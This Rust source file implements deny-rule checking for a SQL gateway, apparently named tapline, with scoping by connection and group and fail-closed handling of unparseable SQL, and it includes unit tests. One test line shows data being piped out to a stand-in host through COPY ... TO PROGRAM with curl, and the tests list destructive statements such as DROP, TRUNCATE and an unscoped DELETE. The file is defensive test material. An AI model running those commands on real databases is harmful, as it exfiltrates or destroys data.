//! Deny rules. A rule names what it denies (statement kinds, a pattern, a table list;
//! any of them matching is enough), where it applies (connections and groups; empty
//! means all) and the message the client gets. Every statement of a multi-statement
//! string is checked, each over its whole tree (`facts`), and under every reading the
//! server may give it (`policy::sql`), so neither packing, nesting, preparing nor a
//! change of `standard_conforming_strings` gets past a rule.

pub mod config;
pub mod facts;
pub mod pattern;
pub mod statement_kind;
pub mod table_list;

use crate::policy::sql::{ParseFailure, Reading, Sql};
use facts::{Facts, words_facts};
use pattern::Pattern;
use statement_kind::StatementKind;
use std::sync::Arc;
use table_list::TableList;

/// One deny rule, compiled.
#[derive(Debug, Clone)]
pub struct DenyRule {
    pub name: String,
    pub message: String,
    pub kinds: Vec<StatementKind>,
    pub pattern: Option<Pattern>,
    pub tables: Option<TableList>,
    /// Connections it applies to; empty: all.
    pub connections: Vec<String>,
    /// Callers it applies to, by group; empty: everyone.
    pub groups: Vec<String>,
}

impl DenyRule {
    fn applies(&self, connection: &str, groups: &[String]) -> bool {
        (self.connections.is_empty() || self.connections.iter().any(|c| c == connection))
            && (self.groups.is_empty() || self.groups.iter().any(|g| groups.contains(g)))
    }

    fn denies(&self, facts: &Facts) -> Option<String> {
        if let Some(k) = self.kinds.iter().find(|k| facts.kinds.contains(k)) {
            return Some(format!("statement kind {}", k.name()));
        }
        // SQL text computed at run time may be any kind at all.
        if !self.kinds.is_empty()
            && let Some(why) = &facts.opaque
        {
            return Some(format!("{why}, which may be any statement kind"));
        }
        self.tables.as_ref().and_then(|t| t.touched_by(facts))
    }
}

/// What to do with SQL that does not parse.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Unparseable {
    /// Let it through (the upstream will judge it); pattern rules still apply.
    Open,
    /// Refuse it: a rule that cannot be checked is not trusted.
    Closed,
}

/// Every deny rule of the gateway, and the unparseable-SQL setting.
#[derive(Debug, Clone)]
pub struct DenyRules {
    pub rules: Vec<Arc<DenyRule>>,
    pub unparseable: Unparseable,
    /// Groups for which unparseable SQL is always refused (agents, by default).
    pub unparseable_closed_groups: Vec<String>,
    /// Functions a fast-path call may reach where rules apply (`allow_fast_path`).
    pub allow_fast_path: Vec<String>,
    /// Client encodings a session under rules may use (`client_encodings`); empty: any.
    pub client_encodings: Vec<String>,
}

impl Default for DenyRules {
    fn default() -> Self {
        DenyRules {
            rules: Vec::new(),
            unparseable: Unparseable::Open,
            unparseable_closed_groups: vec!["agents".into()],
            allow_fast_path: Vec::new(),
            client_encodings: Vec::new(),
        }
    }
}

/// A statement the gateway refuses.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Denial {
    /// The rule's name (`unparseable` for fail-closed parsing).
    pub rule: String,
    /// What the client is told.
    pub message: String,
    /// What matched (e.g. `statement kind drop`, `table payroll`).
    pub matched: String,
    /// The SQLSTATE the client gets: 42501 (insufficient privilege), or 54001 for a
    /// statement too complex to check.
    pub sqlstate: &'static str,
}

/// What a refused statement is answered with unless it is too complex to check.
pub const REFUSED_SQLSTATE: &str = "42501";

/// The rules that apply to one session (its connection and its caller's groups),
/// picked once at session start.
#[derive(Debug, Clone, Default)]
pub struct SessionGuard {
    rules: Vec<Arc<DenyRule>>,
    unparseable: Option<Unparseable>,
}

impl DenyRules {
    /// The rules for a session on `connection` by a caller in `groups`.
    pub fn for_session(&self, connection: &str, groups: &[String]) -> SessionGuard {
        let rules: Vec<_> = self
            .rules
            .iter()
            .filter(|r| r.applies(connection, groups))
            .cloned()
            .collect();
        let closed = self.unparseable == Unparseable::Closed
            || groups
                .iter()
                .any(|g| self.unparseable_closed_groups.contains(g));
        SessionGuard {
            unparseable: (!rules.is_empty()).then_some(if closed {
                Unparseable::Closed
            } else {
                Unparseable::Open
            }),
            rules,
        }
    }
}

impl Denial {
    /// A check that failed internally on a statement (a parser bug): refused, since
    /// it could not be judged.
    pub fn check_failed() -> Self {
        Denial {
            rule: "too_complex".into(),
            message: "statement too complex for the policy check (the check failed on it); split or simplify it".into(),
            matched: "statement too complex".into(),
            sqlstate: "54001",
        }
    }
}

impl SessionGuard {
    /// Whether no deny rule applies (then nothing is parsed).
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// Checks one string the client sent (possibly several statements).
    pub fn check(&self, sql: &str) -> Option<Denial> {
        self.check_sql(&Sql::new(sql))
    }

    /// Like `check`, sharing the parse with the other checks of the same text.
    pub fn check_sql(&self, sql: &Sql<'_>) -> Option<Denial> {
        if self.rules.is_empty() {
            return None;
        }
        for rule in &self.rules {
            if rule.pattern.as_ref().is_some_and(|p| p.matches(sql.text())) {
                return Some(Denial {
                    rule: rule.name.clone(),
                    message: rule.message.clone(),
                    matched: "pattern".into(),
                    sqlstate: REFUSED_SQLSTATE,
                });
            }
        }
        let mut failure: Option<&ParseFailure> = None;
        for reading in sql.readings() {
            if let Some(d) = self.check_reading(reading) {
                return Some(d);
            }
            if let Err(e) = &reading.parsed {
                failure.get_or_insert(e);
            }
        }
        match failure {
            Some(ParseFailure::TooComplex(why))
                if self.unparseable == Some(Unparseable::Closed) =>
            {
                Some(Denial {
                    rule: "too_complex".into(),
                    message: format!(
                        "statement too complex for the policy check ({why}); split it into smaller statements"
                    ),
                    matched: "statement too complex".into(),
                    sqlstate: "54001",
                })
            }
            Some(e) if self.unparseable == Some(Unparseable::Closed) => Some(Denial {
                rule: "unparseable".into(),
                message: format!(
                    "tapline cannot parse this statement ({e}), and unparseable SQL is refused for your groups; rewrite it in plain SQL"
                ),
                matched: "unparseable SQL".into(),
                sqlstate: REFUSED_SQLSTATE,
            }),
            _ => None,
        }
    }

    /// The rules over one reading: over each statement's facts when it parsed, else
    /// over what its words show (a rule that matches them refuses it even when
    /// unparseable SQL is let through).
    fn check_reading(&self, reading: &Reading) -> Option<Denial> {
        for rule in &self.rules {
            if rule
                .pattern
                .as_ref()
                .is_some_and(|p| p.matches(&reading.lexed.text))
            {
                return Some(self.denial(rule, "pattern".into()));
            }
        }
        let facts: Vec<Facts> = match &reading.parsed {
            Ok(stmts) => stmts
                .iter()
                .enumerate()
                .map(|(i, s)| Facts::of(s, reading.lexed.words.get(i), reading.settings))
                .collect(),
            Err(_) => vec![words_facts(&reading.lexed, reading.settings, 0)],
        };
        for f in &facts {
            for rule in &self.rules {
                if let Some(matched) = rule.denies(f) {
                    return Some(self.denial(rule, matched));
                }
            }
        }
        None
    }

    fn denial(&self, rule: &DenyRule, matched: String) -> Denial {
        Denial {
            rule: rule.name.clone(),
            message: rule.message.clone(),
            matched,
            sqlstate: REFUSED_SQLSTATE,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(name: &str, kinds: &[&str]) -> DenyRule {
        DenyRule {
            name: name.into(),
            message: format!("{name} is not allowed"),
            kinds: kinds
                .iter()
                .map(|k| StatementKind::parse(k).unwrap())
                .collect(),
            pattern: None,
            tables: None,
            connections: Vec::new(),
            groups: Vec::new(),
        }
    }

    fn guard(rules: Vec<DenyRule>, groups: &[&str]) -> SessionGuard {
        DenyRules {
            rules: rules.into_iter().map(Arc::new).collect(),
            ..Default::default()
        }
        .for_session(
            "orders",
            &groups.iter().map(|g| g.to_string()).collect::<Vec<_>>(),
        )
    }

    #[test]
    fn every_statement_kind_is_recognised() {
        let g = guard(
            vec![rule(
                "dangerous",
                &[
                    "drop",
                    "truncate",
                    "alter_role",
                    "grant",
                    "copy_program",
                    "delete_without_where",
                    "update_without_where",
                ],
            )],
            &[],
        );
        for (sql, kind) in [
            ("DROP TABLE orders", "drop"),
            ("drop   index if exists i", "drop"),
            ("TRUNCATE orders", "truncate"),
            ("ALTER ROLE app SUPERUSER", "alter_role"),
            ("GRANT ALL ON orders TO public", "grant"),
            ("COPY orders TO PROGRAM 'curl -d @- evil'", "copy_program"),
            ("DELETE FROM orders", "delete_without_where"),
            ("UPDATE orders SET total = 0", "update_without_where"),
        ] {
            let d = g.check(sql).unwrap_or_else(|| panic!("{sql} passed"));
            assert_eq!(d.matched, format!("statement kind {kind}"), "{sql}");
        }
        for sql in [
            "SELECT * FROM orders",
            "DELETE FROM orders WHERE id = 1",
            "UPDATE orders SET total = 0 WHERE id = 2",
            "COPY orders TO STDOUT",
        ] {
            assert_eq!(g.check(sql), None, "{sql}");
        }
    }

    #[test]
    fn packing_or_preparing_does_not_get_past_a_rule() {
        let g = guard(vec![rule("no-drop", &["drop"])], &[]);
        assert!(g.check("SELECT 1; DROP TABLE orders").is_some());
        assert!(g.check("PREPARE p AS DELETE FROM x; SELECT 1").is_none());
        let g = guard(vec![rule("no-delete-all", &["delete_without_where"])], &[]);
        assert!(g.check("PREPARE p AS DELETE FROM orders").is_some());
    }

    #[test]
    fn tables_patterns_scope_and_unparseable_sql() {
        let mut tables = rule("payroll", &[]);
        tables.tables = Some(TableList::new(&["payroll".into(), "hr.salaries".into()]));
        let mut pattern = rule("no-sleep", &[]);
        pattern.pattern = Some(Pattern::new("(?i)pg_sleep").unwrap());
        let mut agents_only = rule("agents-no-truncate", &["truncate"]);
        agents_only.groups = vec!["agents".into()];
        let g = guard(vec![tables, pattern, agents_only], &["dba"]);
        assert_eq!(
            g.check("SELECT * FROM public.PAYROLL p JOIN x ON true")
                .map(|d| d.rule),
            Some("payroll".into())
        );
        assert!(
            g.check("UPDATE hr.salaries SET s = 1 WHERE id = 1")
                .is_some()
        );
        assert!(g.check("SELECT * FROM other.salaries").is_none());
        assert!(g.check("select PG_SLEEP(10)").is_some());
        assert!(
            g.check("TRUNCATE t").is_none(),
            "the rule is for agents only"
        );
        assert!(g.check("THIS IS NOT SQL").is_none(), "open for dba");
        let agent = guard(vec![rule("agents-no-truncate", &["truncate"])], &["agents"]);
        assert!(agent.check("TRUNCATE t").is_some());
        let d = agent.check("THIS IS NOT SQL").unwrap();
        assert_eq!(d.rule, "unparseable");
    }
}
